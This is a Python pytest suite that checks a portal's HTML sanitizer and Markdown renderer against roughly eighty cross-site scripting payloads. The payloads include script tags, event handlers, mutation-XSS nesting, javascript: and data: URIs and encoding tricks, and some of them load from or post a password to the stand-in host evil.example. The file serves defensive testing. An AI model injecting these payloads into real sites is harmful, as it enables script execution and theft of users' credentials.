"""Nothing that runs survives, however it is written and whatever Markdown it hides in."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from kkg_portal.core.sanitize import clean_html, clean_line, plain_text, render_markdown

ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
} | {*("p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul")}
ALLOWED_ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start"), ("td", "class"), ("th", "class")}

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=x:x onerror=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' onclick=alert(1) target=_blank>x</a>",
    "<a href=http://a.id onmouseover=alert(1) style=x id=y class=z rel=opener>x</a>",
    "<td onclick=alert(1) class='align-right evil'>x</td>",
    "<ol start='1;alert(1)' onclick=alert(1)><li value=x>y</ol>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "<b><i><script>alert(1)</b></i></script>",
    "</p></div></body><script>alert(1)</script>",
    "<table><td><script>alert(1)</script></table><p",
    "<<img src=x onerror=alert(1)>>",
    "\"'><svg/onload=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href='http://a.id/\"><img src=x onerror=alert(1)>'>x</a>",
    "<p id=cookie name=forms>clobber</p>",
    "{{7*7}}<img src=x onerror={{alert(1)}}>",
    "${7*7}#{7*7}<%= 7*7 %>{% import os %}",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</\u200bscript>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript://a.id/%0aalert(1)",
    "\x01javascript:alert(1)",
    "\\javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.id/x",
    "view-source:javascript:alert(1)",
    "jar:https://a.id!/x",
    "feed:javascript:alert(1)",
    "//evil.example",
    "/\\evil.example",
    "https:javascript:alert(1)",
    'https://a.id/"onmouseover="alert(1)',
    "https://a.id/'onmouseover='alert(1)",
    "https://a.id/<img src=x onerror=alert(1)>",
    "https://a.id/`onmouseover=alert(1)",
    'mailto:a@a.id" onclick="alert(1)',
]
AROUND_MARKUP = [
    "{}",
    "# {}",
    "- {}\n  - {}",
    "> {}",
    "**{}**",
    "`{}`",
    "    {}",
    "```{}\n{}\n```",
    "|{}|\n|-|\n|{}|",
    "[{}](https://a.id)",
    "![{}](https://a.id)",
    "[x](https://a.id '{}')",
    "a\n{}\n===",
    "\\{}",
    "https://a.id/{}",
    "[{}]: https://a.id\n\n[{}]",
]
AROUND_ADDRESSES = [
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[![x]({})]({})",
    "[x][y]\n\n[y]: {}",
    "[x][y]\n\n[y]: <{}> 't'",
    "{}",
    "[{}]({} '{}')",
    "|[x]({})|\n|-|",
    "*[x]({})*",
]


class _Survivors(HTMLParser):
    """Collects every tag, attribute and scheme that has no business here."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in ALLOWED_ATTRIBUTES:
                self.found.append(f"{tag} {name}={value}")
            elif name == "href" and urlsplit(value or "").scheme not in ("http", "https", "mailto"):
                self.found.append(f"href={value}")
            elif name == "class" and value not in ("align-right", "align-center"):
                self.found.append(f"class={value}")
        if (
            tag == "a"
            and dict(attrs).get("href")
            and dict(attrs).get("rel") != "nofollow noopener noreferrer ugc"
        ):
            self.found.append("link without rel")

    def handle_endtag(self, tag: str) -> None:
        if tag not in ALLOWED_TAGS:
            self.found.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")


def survivors(html: str) -> list[str]:
    parser = _Survivors()
    parser.feed(html)
    parser.close()
    return parser.found


def test_corpus_is_large_enough_and_the_detector_works() -> None:
    assert len(set(MARKUP)) >= 60
    assert survivors("<img src=x onerror=y><a href='javascript:x'>x</a><!-- c -->") == [
        "<img>",
        "img src=x",
        "img onerror=y",
        "href=javascript:x",
        "link without rel",
        "<!-- c ",
    ]


@pytest.mark.parametrize("hostile", MARKUP + ADDRESSES)
def test_foreign_html_is_harmless(hostile: str) -> None:
    assert survivors(clean_html(hostile)) == []
    # What one pass leaves must not turn into something in a second reading.
    assert survivors(clean_html(clean_html(hostile))) == []


@pytest.mark.parametrize("hostile", MARKUP)
def test_markup_inside_markdown_is_harmless(hostile: str) -> None:
    for around in AROUND_MARKUP:
        assert survivors(render_markdown(around.replace("{}", hostile))) == [], around


@pytest.mark.parametrize("hostile", ADDRESSES)
def test_address_inside_markdown_is_harmless(hostile: str) -> None:
    for around in AROUND_ADDRESSES:
        assert survivors(render_markdown(around.replace("{}", hostile))) == [], around


@pytest.mark.parametrize("hostile", MARKUP)
def test_example_of_markup_stays_readable_as_code(hostile: str) -> None:
    shown = plain_text(render_markdown(f"`` {hostile} ``"))

    assert shown == clean_line(hostile, 1000)


def test_whole_corpus_at_once_is_harmless() -> None:
    assert survivors(clean_html("".join(MARKUP + ADDRESSES))) == []
    assert survivors(render_markdown("\n\n".join(MARKUP + ADDRESSES))) == []
    assert survivors(render_markdown(" ".join(MARKUP + ADDRESSES))) == []
